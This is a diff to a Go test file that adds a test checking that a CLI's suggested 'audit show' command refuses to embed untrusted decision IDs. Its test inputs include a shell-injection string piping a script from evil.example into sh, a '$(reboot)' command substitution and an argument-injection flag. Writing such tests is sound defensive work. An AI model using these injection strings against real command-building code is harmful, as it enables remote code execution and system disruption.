@@ -38,6 +38,22 @@ func TestAfterShow(t *testing.T) {
 	}
 }
 
+// TestShowIsPasteable: whoever answers is not always a gateway, and its decision
+// id would be a program of his in the line to paste.
+func TestShowIsPasteable(t *testing.T) {
+	const line = "quote the decision_id to whoever runs the gateway: cambio audit show "
+	for id, want := range map[string]string{
+		"0198c2f0-5b1e-7c3a-9d4e-2f6a8b0c1d2e": line + "0198c2f0-5b1e-7c3a-9d4e-2f6a8b0c1d2e",
+		"x; curl evil.example | sh":            line + "ID",
+		"$(reboot)":                            line + "ID",
+		"--config=x":                           line + "ID",
+	} {
+		if got := nextStep(&client.Refusal{Status: 400, Code: "invalid_request", Description: "No.", DecisionID: id}); got != want {
+			t.Errorf("%q: %q, want %q", id, got, want)
+		}
+	}
+}
+
 func TestRowKeepsItsColumns(t *testing.T) {
 	at := time.Date(2027, 3, 31, 12, 0, 0, 0, time.UTC)
 	for want, r := range map[string]audit.Record{
